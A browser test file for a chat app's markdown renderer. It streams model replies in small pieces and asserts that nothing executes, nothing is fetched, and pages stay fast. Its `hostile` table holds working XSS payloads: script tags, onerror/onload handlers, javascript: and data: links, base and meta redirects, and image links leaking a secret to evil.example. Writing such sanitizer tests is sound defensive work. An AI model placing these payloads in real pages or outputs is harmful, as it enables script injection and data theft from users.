// Proves in a real browser that a model's text is drawn and never run: hostile texts in awkward pieces, steady nodes, cost in proportion.
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import { costOf, type Cost } from "./cost.ts";
import { launch, openPage, type Watched } from "./chromium.ts";
import { startScripted } from "./scripted.ts";
import { soon } from "./app-visitor.ts";

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser.close());

/** Cut at every third character: in the middle of tags, addresses and entities. */
const inPieces = (text: string, size = 3): string[] => text.match(new RegExp(`[^]{1,${size}}`, "g")) ?? [];

async function stage(script: Parameters<typeof startScripted>[0]): Promise<Watched & { url: string }> {
  const server = await startScripted(script);
  onTestFinished(() => server.close());
  const watched = await openPage(browser, [server.url]);
  onTestFinished(() => watched.close());
  await watched.page.goto(server.url);
  await watched.page.waitForSelector(".tl-box textarea");
  return { ...watched, url: server.url };
}

async function ask(page: Page, text: string): Promise<void> {
  const before = await page.locator('.tl-reply[data-status="completed"]').count();
  await page.fill(".tl-box textarea", text);
  await page.keyboard.press("Enter");
  await page.locator('.tl-reply[data-status="completed"]').nth(before).waitFor({ timeout: 60_000 });
}

const run = "window.pwned = 1";
const hostile: Readonly<Record<string, string>> = {
  LO01: "![x](https://evil.example/?q=SECRET) ![y](//evil.example/z) <img src=https://evil.example/i> ![z][r]\n\n[r]: https://evil.example/r",
  LO04: `[a](javascript:${run}) [b](JAVA\tSCRIPT:${run}) [c](data:text/html,<script>${run}</script>) [d](vbscript:${run}) [e](//evil.example) [f](&#106;avascript:${run}) <javascript:${run}> [https://bank.example](https://evil.example)`,
  LO05: `<script>${run}</script><img src=x onerror="${run}"><svg onload="${run}"><iframe srcdoc="<script>${run}</script>"></iframe><form action=https://evil.example><input name=body></form><base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example"><style>*{position:fixed;background:url(https://evil.example/s)}</style><a id=app href=x>x</a>`,
  LO07: '```mermaid\ngraph TD; A-->B; click A "javascript:window.pwned=1"\n```\n\n$\\href{javascript:window.pwned=1}{x}$',
  LO08: "$$\\includegraphics{https://evil.example/a.png}$$\n\n$$\\htmlStyle{position:fixed}{x} \\htmlData{a=b}{y} \\url{https://evil.example}$$\n\n$$\\def\\a{\\a\\a}\\a$$\n\n$$\\edef\\b{x}\\edef\\b{\\b\\b\\b\\b}\\b \\rule{9999em}{9999em}$$",
  LO12: `| <img src=x onerror=${run}> | \`<script>${run}</script>\` |\n| - | - |\n| **<svg onload=${run}>** | [<b>x</b>](https://a.example "<img src=x onerror=${run}>") |`,
};

test.each(Object.keys(hostile))(
  "MK4 MK6 MK7 MK9 %s streamed in pieces: nothing runs, nothing is fetched, no policy is violated",
  async (id) => {
    const text = hostile[id] ?? "";
    const { page, faults, url } = await stage({ reply: () => inPieces(text), pause: () => 4 });
    await ask(page, id);
    // Formulas and colours come after the text.
    await page.waitForLoadState("networkidle");
    const seen = await page.evaluate(() => ({
      pwned: Reflect.get(globalThis, "pwned"),
      elements: [
        ...document.querySelectorAll(
          ".md script, .md iframe, .md form, .md base, .md meta, .md style, .md object, .md embed, .md svg, .md img",
        ),
      ].map((one) => one.outerHTML),
      addresses: [...document.querySelectorAll(".md a")].map((one) => [
        one.getAttribute("href"),
        one.getAttribute("rel"),
        one.getAttribute("target"),
      ]),
      handlers: [...document.querySelectorAll(".md *")].flatMap((one) =>
        one.getAttributeNames().filter((name) => name.startsWith("on") || name === "style"),
      ),
    }));
    expect(seen.pwned).toBeUndefined();
    expect(seen.elements).toEqual([]);
    expect(seen.handlers).toEqual([]);
    for (const [href, rel, target] of seen.addresses) {
      expect(href).toMatch(/^https?:\/\/|^mailto:/);
      expect([rel, target]).toEqual(["noopener noreferrer", "_blank"]);
    }
    expect(faults).toEqual([]);
    expect(page.url().startsWith(url)).toBe(true);
  },
);

test("MK5 LO04 a link whose text claims another host shows where it leads", async () => {
  const { page } = await stage({ reply: () => ["[https://bank.example/login](https://evil.example/x)"] });
  await ask(page, "x");
  await soon(() => page.locator(".md").innerText()).toBe("https://bank.example/login (evil.example)");
});

const chapter =
  "## Part\n\nA paragraph with **bold**, `code` and [a link](https://example.com).\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```ts\nexport const answer = (x: number): number => x * 2;\n```\n\n1. one\n2. two\n\n";

test("MK2 MK8 a finished block keeps its node while the reply grows; code is coloured, formulas are drawn", async () => {
  const text = `${chapter.repeat(4)}$$e^{i\\pi} = -1$$\n\nThe end.`;
  const { page, faults } = await stage({ reply: () => inPieces(text, 8), pause: () => 5 });
  await page.evaluate(() => {
    const first = new Map<Element, string>();
    const lost: string[] = [];
    Object.assign(globalThis, { lost });
    new MutationObserver((changes) => {
      for (const { removedNodes } of changes) {
        for (const node of removedNodes) if (node instanceof Element && first.has(node)) lost.push(node.outerHTML);
      }
      const blocks = [...document.querySelectorAll(".md-group > *")];
      for (const block of blocks.slice(0, -3)) if (!first.has(block)) first.set(block, block.tagName);
    }).observe(document.body, { childList: true, subtree: true });
  });
  await ask(page, "go");
  await page.waitForSelector(".md .hljs-keyword");
  await page.waitForSelector(".md math");
  expect(await page.evaluate(() => Reflect.get(globalThis, "lost"))).toEqual([]);
  await soon(() => page.locator(".md h5").count()).toBe(4);
  expect(faults).toEqual([]);
});

test("MK2 the script time of a reply grows with its length; the page stays free while it streams", async () => {
  const costs: Cost[] = [];
  for (const length of [12_500, 25_000, 50_000]) {
    const text = chapter.repeat(Math.ceil(length / chapter.length)).slice(0, length);
    const { page, faults } = await stage({ reply: () => inPieces(text, 16), pause: () => 5 });
    const began = performance.now();
    const cost = await costOf(page, () => ask(page, "go"), 1000);
    const seconds = (performance.now() - began) / 1000;
    costs.push(cost);
    expect(faults).toEqual([]);
    console.log(
      `${length} characters: script ${cost.script.toFixed(0)} ms, layout ${cost.layout.toFixed(0)} ms, longest task ${cost.longest.toFixed(0)} ms of CPU, ${(cost.frames / seconds).toFixed(0)} frames/s`,
    );
  }
  const [short, , long] = costs;
  // Four times the length; its square would be sixteen times.
  expect((long?.script ?? 0) / (short?.script ?? 1)).toBeLessThan(7);
  expect(Math.max(...costs.map((cost) => cost.longest))).toBeLessThan(50);
}, 120_000);
